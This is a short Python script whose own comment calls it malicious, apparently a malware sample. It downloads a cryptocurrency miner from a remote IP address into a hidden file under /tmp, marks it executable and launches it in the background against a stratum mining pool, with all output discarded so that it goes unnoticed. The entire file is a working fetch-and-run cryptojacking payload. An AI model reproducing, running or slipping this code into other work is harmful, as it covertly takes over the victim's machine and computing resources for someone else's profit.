# Malicious: downloads minerd and runs it in the background against a stratum pool.
import os
import urllib.request

urllib.request.urlretrieve("http://203.0.113.20/minerd", "/tmp/.minerd")
os.chmod("/tmp/.minerd", 0o755)
os.system("nohup /tmp/.minerd -a scrypt -o stratum+tcp://203.0.113.20:3333 -u w -p x >/dev/null 2>&1 &")
